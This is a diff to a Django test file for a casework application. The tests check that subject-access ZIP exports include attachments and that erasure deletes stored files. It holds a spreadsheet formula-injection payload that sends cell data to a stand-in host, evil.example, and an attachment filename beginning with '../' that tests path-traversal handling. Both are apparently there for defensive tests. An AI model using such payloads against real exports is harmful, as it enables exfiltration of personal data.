@@ -2,17 +2,32 @@ import io
 import json
 import zipfile
 from datetime import timedelta
+from pathlib import Path
+from typing import Any
 
+import pytest
 from click.testing import CliRunner
+from django.core.files.base import ContentFile
 from django.test import Client
 from django.utils import timezone
 
 from compassion.cases.cli import retention
 from compassion.cases.models import Case, Reply, Status
 from compassion.core.models import AuditEntry, Consent, Person
-from compassion.voices.models import Voice
+from compassion.voices.models import Attachment, Voice
 from tests.cases.conftest import make_case
 from tests.conftest import Cast
+
+
+@pytest.fixture(autouse=True)
+def files_in_tmp(settings: Any, tmp_path: Path) -> None:
+    settings.STORAGES = settings.STORAGES | {
+        "default": {
+            "BACKEND": "django.core.files.storage.FileSystemStorage",
+            "OPTIONS": {"location": tmp_path},
+        }
+    }
+
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
 
@@ -24,12 +39,18 @@ def test_it_exports_everything_held_in_one_archive(client: Client, cast: Cast) -
     Reply.objects.create(office=cast.office, case=case, person=cast.person, subject="Re: damp",
                          body="We have written to the landlord.")
     make_case(cast.other_office, cast.other_person, body="Ken's private words")
+    attachment = Attachment(voice=Voice.objects.get(case=case), filename="../eviction notice.pdf")
+    attachment.file.save("notice.pdf", ContentFile(b"%PDF-1.4 the notice"), save=True)
     client.force_login(cast.caseworker)
     assert client.get(f"/cases/people/{cast.person.pk}/subject-access.zip").status_code == 403
     client.force_login(cast.manager)
     response = client.get(f"/cases/people/{cast.person.pk}/subject-access.zip")
     archive = zipfile.ZipFile(io.BytesIO(response.content))
-    assert set(archive.namelist()) == {"record.json", "record.pdf", "messages.csv", "README.txt"}
+    assert set(archive.namelist()) == {
+        "record.json", "record.pdf", "messages.csv", "README.txt",
+        f"attachments/{attachment.pk}-eviction notice.pdf",
+    }
+    assert archive.read(f"attachments/{attachment.pk}-eviction notice.pdf").startswith(b"%PDF")
     record = json.loads(archive.read("record.json"))
     assert record["person"]["email"] == "joan@example.com"
     assert record["cases"][0]["what_matters_to_you"] == "Keeping my flat"
@@ -49,6 +70,9 @@ def test_it_erases_on_request_and_audits_without_the_data(client: Client, cast: 
     Consent.objects.create(person=cast.person, purpose="casework", given=True)
     case = make_case(cast.office, cast.person, subject="Joan's debts", heard="My debts",
                      body="I owe £1,450 to the council, Joan Smith, 4 Mill Lane.")
+    attachment = Attachment(voice=Voice.objects.get(case=case), filename="payslip.pdf")
+    attachment.file.save("payslip.pdf", ContentFile(b"salary"), save=True)
+    stored = Path(attachment.file.path)
     client.force_login(cast.manager)
     kept = client.post(f"/cases/people/{cast.person.pk}/erase/")
     assert kept.status_code == 302
@@ -61,6 +85,7 @@ def test_it_erases_on_request_and_audits_without_the_data(client: Client, cast: 
     case.refresh_from_db()
     assert case.subject == "[erased]" and case.heard == ""
     assert Voice.objects.get(case=case).body == ""
+    assert not Attachment.objects.exists() and not stored.exists()
     entry = AuditEntry.objects.get(action="erase")
     assert "Joan" not in entry.summary and "debt" not in entry.summary.lower()
     assert "1 case" in entry.summary
